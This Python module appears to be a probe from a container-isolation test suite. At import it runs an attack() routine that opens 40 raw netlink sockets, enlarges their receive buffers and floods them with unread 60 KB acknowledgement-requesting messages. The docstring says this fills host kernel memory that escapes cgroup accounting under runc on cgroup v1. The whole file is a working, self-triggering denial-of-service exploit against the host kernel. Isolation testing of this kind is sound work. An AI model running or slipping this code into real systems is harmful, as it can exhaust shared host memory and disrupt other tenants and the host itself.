"""The starter, after filling netlink receive queues at import: kernel memory no cgroup counts.

Each socket asks for 4 MB of receive buffer and sends the kernel junk requests that want an
acknowledgement: every answer echoes the request (~60 KB) into the socket's queue, which nobody
reads. With runc on cgroup v1 that is unaccounted host slab (SUnreclaim), ~8 MB a socket.
What happened is printed, so it shows in the first test's output.
"""

import errno
import socket
import struct

from starter import app  # noqa: F401

SOCKETS = 40
held = []


def attack():
    queued = 0
    body = b"\0" * 60000
    # nlmsghdr: length, an unknown type, NLM_F_REQUEST | NLM_F_ACK, seq, pid 0
    request = struct.pack("=LHHLL", 16 + len(body), 0x7FF0, 0x1 | 0x4, 1, 0) + body
    try:
        for _ in range(SOCKETS):
            sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
            held.append(sock)
            sock.bind((0, 0))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
            sock.setblocking(False)
            for _ in range(300):
                queued += sock.sendto(request, (0, 0))
    except OSError as exc:
        return f"{errno.errorcode.get(exc.errno, exc.errno)} after {len(held)} sockets, {queued >> 20} MB asked"
    return f"no error: {len(held)} sockets, {queued >> 20} MB asked"


print("kernel-memory netlink:", attack(), flush=True)
